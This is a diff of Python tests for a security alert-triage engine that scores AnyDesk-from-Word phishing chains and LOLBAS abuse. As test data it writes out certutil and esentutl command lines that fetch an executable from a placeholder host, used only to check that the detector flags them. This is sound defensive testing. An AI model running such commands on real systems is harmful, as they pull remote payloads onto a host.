@@ -127,6 +127,7 @@ def test_anydesk_brought_by_word_is_a_phishing_chain_and_cites_lolrmm() -> None:
     assert signal.finding.startswith("[LOLRMM] AnyDesk: anydesk.exe is a remote-management tool")
     assert "an Office application (winword.exe)" in signal.finding
     assert (signal.source, signal.locator) == ("alert", "evidence[0].filePath")
+    assert _analyze(alert).disposition is Disposition.TRUE_POSITIVE
 
 
 def test_a_remote_tool_run_from_downloads_is_a_phishing_chain() -> None:
@@ -153,7 +154,7 @@ def test_an_expired_or_out_of_scope_approval_does_not_cover_the_tool() -> None:
     for fact in (expired, other_host):
         signals = _signals(alert, _facts(fact))
         assert not [s for s in signals if s.rule == "RM2"]
-        assert _rule(signals, "RM1").points == 0.5
+        assert _rule(signals, "RM1").points == 0.0
 
 
 def test_started_by_the_deployment_agent_explains_but_word_wins_over_an_approval() -> None:
@@ -206,16 +207,27 @@ def test_a_connection_to_a_tool_domain_names_the_tool() -> None:
 # --- LB: LOLBAS -------------------------------------------------------------------------------------------------
 
 
-def test_certutil_downloading_resembles_the_catalogued_download_abuse() -> None:
+def test_esentutl_copying_from_a_share_resembles_the_catalogued_download_abuse() -> None:
+    esentutl = _process(
+        "C:\\Windows\\System32\\esentutl.exe",
+        "C:\\Windows\\System32\\cmd.exe",
+        "esentutl.exe /y \\\\203.0.113.9\\share\\a.exe /d C:\\Users\\Public\\a.exe /o",
+    )
+    signal = _rule(_signals(_defender("Suspicious copy", esentutl)), "LB1")
+    assert signal.points == 1.5 and signal.techniques == ("T1564.004",)  # as the catalogue tags this command
+    assert signal.finding.startswith("[LOLBAS] Esentutl.exe: the command line resembles the catalogued 'Download'")
+    assert signal.locator == "evidence[0].processCommandLine"
+
+
+def test_a_lolbin_the_behaviour_rules_already_count_is_cited_once_not_counted_twice() -> None:
     certutil = _process(
         "C:\\Windows\\System32\\certutil.exe",
         "C:\\Windows\\System32\\cmd.exe",
         "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
     )
     signal = _rule(_signals(_defender("Suspicious download", certutil)), "LB1")
-    assert signal.points == 1.5 and signal.techniques == ("T1105",)
+    assert signal.points == 0.0 and "the behaviour rules (H) already count" in signal.finding
     assert signal.finding.startswith("[LOLBAS] Certutil.exe: the command line resembles the catalogued 'Download'")
-    assert signal.locator == "evidence[0].processCommandLine"
 
 
 def test_an_everyday_command_line_is_context_or_nothing() -> None:
